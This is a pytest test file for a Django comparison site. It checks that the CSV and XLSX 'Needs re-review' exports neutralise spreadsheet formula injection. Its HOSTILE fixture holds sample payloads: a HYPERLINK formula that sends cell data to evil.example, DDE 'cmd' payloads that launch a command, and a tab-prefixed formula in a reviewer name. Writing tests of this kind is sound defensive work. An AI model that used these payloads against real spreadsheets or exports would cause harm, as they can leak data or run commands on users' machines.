"""The Needs re-review export hands editor-typed text to spreadsheets as text, never as a
formula: downloaded through the report's own export links."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from comparisons.models import ComparisonPage, ReferenceSettings, ReviewStamp
from comparisons.review.setup import REVIEWERS

pytestmark = pytest.mark.django_db

HOSTILE = {
    "gpt-oss-120b-vs-qwen3-5-4b": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "gpt-5-1-codex-vs-qwen3-5-4b": "+cmd|' /C calc'!A0",
    "gpt-5-2-codex-vs-qwen3-5-4b": "-2+3",
    "codex-1-vs-qwen3-5-4b": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def report(client, django_user_model):
    settings = ReferenceSettings.objects.get()
    settings.review_max_age_days = 1  # every seed comparison is listed (reviewed May 2026)
    settings.save()
    for slug, title in HOSTILE.items():
        # Titles follow the models' names; set them directly, as a crafted save could.
        ComparisonPage.objects.filter(slug=slug).update(title=title)
    stamp = ReviewStamp.objects.filter(page__slug="gpt-oss-120b-vs-qwen3-5-4b").first()
    stamp.reviewer_name = "\t=1+1"
    stamp.save()
    reviewer = django_user_model.objects.create_user("rita", "rita@example.com", "pw-123456")
    reviewer.groups.add(Group.objects.get(name=REVIEWERS))
    client.force_login(reviewer)
    return client, reverse("comparisons_needs_re_review")


def test_csv_cells_that_could_be_formulas_start_with_an_apostrophe(report):
    client, url = report
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
    titles = {row["Comparison"] for row in rows}
    assert {"'" + title for title in HOSTILE.values()} <= titles
    row = next(r for r in rows if r["Comparison"].startswith("'=HYPERLINK"))
    assert row["Reviewer"] == "'\t=1+1"
    # Nothing else is touched.
    assert row["Last reviewed"] == "2026-05-14"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for r in rows for cell in r.values())


def test_xlsx_cells_that_could_be_formulas_are_quoted_text(report):
    client, url = report
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    header = [cell.value for cell in sheet[1]]
    cells = {row[header.index("Comparison")].value: row for row in sheet.iter_rows(min_row=2)}
    for title in HOSTILE.values():
        cell = cells[title][header.index("Comparison")]
        assert cell.data_type == "s" and cell.quotePrefix, title
    reviewer = cells[HOSTILE["gpt-oss-120b-vs-qwen3-5-4b"]][header.index("Reviewer")]
    assert reviewer.value == "\t=1+1" and reviewer.quotePrefix
    plain = next(row for title, row in cells.items() if title not in HOSTILE.values())
    assert not plain[header.index("Comparison")].quotePrefix
